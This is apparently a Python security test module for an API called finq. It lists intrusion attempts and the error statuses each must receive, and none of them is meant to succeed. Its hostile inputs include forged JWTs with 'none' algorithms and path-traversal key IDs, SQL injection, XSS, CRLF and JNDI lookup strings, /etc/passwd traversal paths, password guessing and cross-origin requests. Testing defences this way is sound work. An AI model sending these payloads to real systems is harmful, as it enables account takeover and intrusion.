"""What somebody sends who has no account, or wants more than theirs; and what they are answered.

Each attack is a list of requests and the statuses they may get. None of them is let in, and none ends in a 500.
"""

from __future__ import annotations

import base64
import json
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass

import jwt

from attack.attacks import JSON, Sent, post

MANY = 10_000
_ISSUER, _AUDIENCE = "finq", "finq-api"


@dataclass(frozen=True)
class Loot:
    """What an intruder has got hold of.

    Attributes:
        secret: What signs tokens.
        kid: Its name.
        viewer: The key of an account that may only look.
        desk: That of an account which may ask about foreign exchange only.
        session: The cookie of somebody who is signed in.
        used: A refresh token that was used before.
    """

    secret: bytes
    kid: str
    viewer: str
    desk: str
    session: str
    used: str


Attack = tuple[Callable[[Loot, int], Iterator[Sent]], tuple[int, ...]]


def _get(path: str, **headers: str) -> Sent:
    return "GET", path, b"", headers


def _bearer(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


def _token(loot: Loot, key: bytes | None = None, algorithm: str = "HS256", **claims: object) -> str:
    now = int(time.time())
    content = {"iss": _ISSUER, "aud": _AUDIENCE, "sub": "the-admin", "sid": "s", "gen": 0, "jti": "j"}
    content |= {"iat": now, "exp": now + 60, **claims}
    return jwt.encode(content, key or loot.secret, algorithm, {"kid": loot.kid})


def _written(header: object, payload: object, signature: bytes = b"") -> str:
    parts = (json.dumps(header).encode(), json.dumps(payload).encode(), signature)
    return ".".join(base64.urlsafe_b64encode(part).decode().rstrip("=") for part in parts)


def _tokens(loot: Loot, many: int) -> Iterator[Sent]:
    claims = {
        "iss": _ISSUER,
        "aud": _AUDIENCE,
        "sub": "the-admin",
        "sid": "s",
        "gen": 0,
        "iat": 1,
        "exp": 4e9,
        "jti": 1,
    }
    bad = [
        _token(loot, exp=int(time.time()) - 1),
        _token(loot, key=b"another secret, as long as a secret is"),
        _token(loot, algorithm="HS512"),
        _token(loot, sub="the-admin' OR '1'='1"),
        _token(loot, sub="nobody"),
        _token(loot, gen=99),
        *(_written({"alg": name, "kid": loot.kid}, claims) for name in ("none", "None", "NONE", "", "HS256", "RS256")),
        _written({"alg": "HS256", "kid": "../../etc/passwd"}, claims, b"x" * 32),
        _written({"alg": "HS256", "kid": {"$ne": ""}}, claims, b"x" * 32),
        "x" * 8_000,
        "." * 3_000,
        base64.urlsafe_b64encode(b"[" * 2_900).decode() + ".e30.e30",
    ]
    for token in bad:
        for headers in (_bearer(token), {"Cookie": f"finq={token}"}, {"X-API-Key": token}):
            yield _get("/auth/me", **headers)


def _crossed(loot: Loot, many: int) -> Iterator[Sent]:
    for name in ("X-API-Key", "Authorization"):
        yield _get("/auth/me", **{name: loot.session})
    yield _get("/auth/me", **_bearer(loot.session))
    yield _get("/auth/me", Cookie=f"finq={_token(loot)}")
    yield _get("/auth/me", Cookie=f"finq={loot.viewer}")
    yield post("/auth/refresh", {"refresh_token": loot.viewer})


def _above_their_role(loot: Loot, many: int) -> Iterator[Sent]:
    yield post("/predict", {"instrument": "EUR_USD"}, **_bearer(loot.viewer))
    yield post("/batch_predict", {"market": "fx"}, **_bearer(loot.viewer))
    yield post("/predict", {"instrument": "AAPL"}, **_bearer(loot.desk))
    yield _get("/ranking?market=equity", **_bearer(loot.desk))


def _replayed(loot: Loot, many: int) -> Iterator[Sent]:
    yield from [post("/auth/refresh", {"refresh_token": loot.used})] * 3


def _guessing(loot: Loot, many: int) -> Iterator[Sent]:
    for number in range(many):
        yield post("/auth/token", {"name": f"name-{number}", "password": "guess"})


def _odd_bodies(loot: Loot, many: int) -> Iterator[Sent]:
    bodies = [
        b"[" * 3_000,
        b'{"name":' * 400,
        b'{"refresh_token":' + b"[" * 1_500 + b"]" * 1_500 + b"}",
        b'{"name": NaN, "password": Infinity}',
        b'{"refresh_token": 1e999}',
        b"\xff\xfe\x00",
        b'{"refresh_token": "\\ud800"}',
        b'{"refresh_token": "' + b"a" * 3_000 + b'"}',
        b" " * 5_000,
        b"null",
    ]
    for path in ("/auth/token", "/auth/refresh", "/auth/revoke"):
        for body in bodies:
            yield "POST", path, body, JSON
        yield "POST", path, b"a=1", {"Content-Type": "application/vnd.bentoml+pickle"}
        yield "POST", path, b"\x1f\x8b", {**JSON, "Content-Encoding": "gzip"}


def _odd_predictions(loot: Loot, many: int) -> Iterator[Sent]:
    for body in (b'{"instrument": NaN}', b"[" * 10_000, b'{"instrument":' * 3_000, b'{"instrument": {"a": [[[]]]}}'):
        for path in ("/predict", "/batch_predict"):
            yield "POST", path, body, {**JSON, **_bearer(loot.desk)}


def _paths(loot: Loot, many: int) -> Iterator[Sent]:
    for path in (
        "/../../etc/passwd",
        "/..%2f..%2fetc/passwd",
        "/v1/../auth/me",
        "//auth/me",
        "/auth/me/",
        "/auth/me%00",
    ):
        yield _get(path)
    for number in range(many):
        yield _get(f"/{number}/auth/me", **_bearer(f"finq_{number:010d}_{'x' * 43}"))


def _injections(loot: Loot, many: int) -> Iterator[Sent]:
    for text in (
        "</script><script>alert(1)</script>",
        "a%0d%0aSet-Cookie: finq=1",
        "%n%n%n${jndi:ldap://x}",
        "' OR 1=1 --",
    ):
        yield _get("/auth/me", **_bearer(text), **{"X-Request-ID": text})
        yield post("/auth/token", {"name": text, "password": text})
        form = {"Content-Type": "application/x-www-form-urlencoded", "Origin": "http://finq", "Host": "finq"}
        yield "POST", "/session", f"name={text}&password={text}".encode(), form


def _other_sites(loot: Loot, many: int) -> Iterator[Sent]:
    for origin in ("https://evil.example.com", "null"):
        theirs = {"Cookie": f"finq={loot.session}", "Origin": origin}
        yield post("/predict", {"instrument": "EUR_USD"}, **theirs)
        yield post("/auth/revoke", {}, **theirs)
        yield "POST", "/session/end", b"", theirs
        yield "POST", "/session", b"name=a&password=b", theirs


def _many_headers(loot: Loot, many: int) -> Iterator[Sent]:
    yield _get("/auth/me", **{f"X-{number}": "a" for number in range(500)})
    yield _get("/auth/me", **{"Cookie": "; ".join(f"c{number}=finq=" for number in range(1_000))})
    yield _get("/auth/me", Authorization="Bearer " * 1_000)


INTRUSIONS: dict[str, Attack] = {
    "tokens nobody signed": (_tokens, (401,)),
    "one thing for another": (_crossed, (401,)),
    # 404 where the market that they may not ask about is not served.
    "more than their role": (_above_their_role, (403, 404)),
    "a refresh token that was used": (_replayed, (401,)),
    "guessed passwords": (_guessing, (401, 429, 503)),
    "bodies that are none": (_odd_bodies, (400, 401, 413, 415, 422)),
    "predictions that are none": (_odd_predictions, (400, 413, 422)),
    "paths and unknown keys": (_paths, (401, 404)),
    "injections": (_injections, (401, 403, 429)),
    "other sites": (_other_sites, (403,)),
    "many headers": (_many_headers, (401, 431)),
}
"""Name -> what is sent, given the loot and how many of what comes in numbers; and what it may be answered."""
